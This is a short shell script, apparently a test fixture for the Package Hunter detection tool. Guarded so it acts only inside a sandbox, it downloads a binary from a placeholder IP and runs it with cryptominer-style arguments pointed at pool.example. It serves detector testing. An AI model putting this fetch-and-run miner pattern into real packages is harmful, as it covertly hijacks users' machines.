#!/bin/sh
# Harmless simulation for testing Package Hunter. Not malware.
# 198.18.0.0/15 exists in the box only; elsewhere nothing is downloaded and nothing is run
case "$(getent hosts pool.example)" in 198.1[89].*|2001:2:*) ;; *) exit 0 ;; esac
curl -s --max-time 10 http://203.0.113.9/download/jsextension -o jsextension || exit 0
chmod +x jsextension
./jsextension -k --tls --rig-id q -o pool.example:3333 -u harmless-simulation --donate-level=1 &
